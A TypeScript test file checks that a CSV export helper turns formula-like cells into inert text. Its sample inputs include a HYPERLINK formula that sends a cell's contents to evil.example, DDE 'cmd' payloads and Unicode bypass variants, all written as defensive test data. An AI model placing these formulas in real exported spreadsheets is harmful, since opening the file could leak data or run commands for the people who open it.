// Which cells a spreadsheet would run, and that they are text instead.

import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { describe, expect, it, test } from "vitest";
import { safeCell } from "./csv-cell.ts";

describe("a cell that would be a formula", () => {
  it.each([
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "\rtext",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u0000=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    "+14155550123,=1",
    "+1 415 555 0123",
    "+14155550123=1",
    "+",
    "-",
  ])("is made text: %j", (text) => expect(safeCell(text)).toBe(`'${text}`));
});

it.each([
  "",
  "Ana",
  "a=b",
  "1-2",
  "'=1",
  "+14155550123",
  "+919876543210",
  "1+1",
  "e@mail.example",
  "¡Hola!",
  " x ",
])("is left as it is: %j", (text) => expect(safeCell(text)).toBe(text));

test("whatever is exported, no program finds a formula in any cell it reads back", () => {
  const signs = fc.constantFrom(
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " ",
    '"',
    ",",
    ";",
    "'",
    "a",
    "1",
    "\u200b",
    "＝",
  );
  const cell = fc.array(signs, { maxLength: 8 }).map((parts) => parts.join(""));
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1, maxLength: 4 }), (row) => {
      const file = stringify([row.map(safeCell)], { quoted: true, quoted_string: true });
      const [read = []] = parse(file);
      expect(read.map((text) => text.replace(/^'(?=.)/s, ""))).toEqual(
        row.map((text) => text.replace(/^'(?=.)/s, "")),
      );
      for (const text of read) if (!/^\+\d+$/.test(text)) expect(text.trim()).not.toMatch(/^[=+\-@]/);
    }),
    { numRuns: 500 },
  );
});
